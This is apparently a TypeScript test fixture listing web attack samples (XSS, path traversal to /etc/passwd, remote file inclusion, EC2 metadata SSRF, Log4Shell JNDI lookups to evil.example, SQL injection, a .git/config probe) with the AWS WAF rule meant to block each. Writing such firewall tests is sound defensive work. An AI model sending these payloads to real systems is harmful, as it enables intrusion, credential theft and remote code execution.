/** A path whose query has a script. */
export const script = "/?q=%3Cscript%3Ealert(1)%3C/script%3E";

/** What it is, the request, and the rule of AWS's groups that blocks it. */
export const injections = [
  ["script in the query", { path: script }, "CrossSiteScripting_QUERYARGUMENTS"],
  [
    "script in the path",
    { path: "/%3Cscript%3Ealert(1)%3C/script%3E" },
    "CrossSiteScripting_URIPATH",
  ],
  [
    "script in a cookie",
    { headers: { cookie: "a=<script>alert(1)</script>" } },
    "CrossSiteScripting_COOKIE",
  ],
  ["a file by the query", { path: "/?file=../../../../etc/passwd" }, "GenericLFI_QUERYARGUMENTS"],
  ["a file by the path", { path: "/static/..%2f..%2f..%2fetc/passwd" }, "GenericLFI_URIPATH"],
  ["a remote file", { path: "/?page=http://10.1.2.3/shell.txt" }, "GenericRFI_QUERYARGUMENTS"],
  [
    "the metadata service",
    { path: "/?url=http://169.254.169.254/latest/meta-data/" },
    "EC2MetaDataSSRF_QUERYARGUMENTS",
  ],
  [
    "JNDI in a header",
    { headers: { "x-version": "${jndi:ldap://evil.example/a}" } },
    "Log4JRCE_HEADER",
  ],
  ["JNDI in the query", { path: "/?q=$%7Bjndi:ldap://evil.example/a%7D" }, "Log4JRCE_QUERYSTRING"],
  ["SQL in the query", { path: "/?id=1'%20OR%20'1'='1" }, "SQLi_QUERYARGUMENTS"],
  ["SQL in a cookie", { headers: { cookie: "session=1' OR '1'='1' --" } }, "SQLi_COOKIE"],
  ["SQL in the path", { path: "/items/1'%20OR%20'1'='1" }, "SQLi_URIPATH"],
  ["a file of the repository", { path: "/.git/config" }, "ExploitablePaths_URIPATH"],
  ["a scanner", { headers: { "user-agent": "nessus" } }, "UserAgent_BadBots_HEADER"],
] as const;
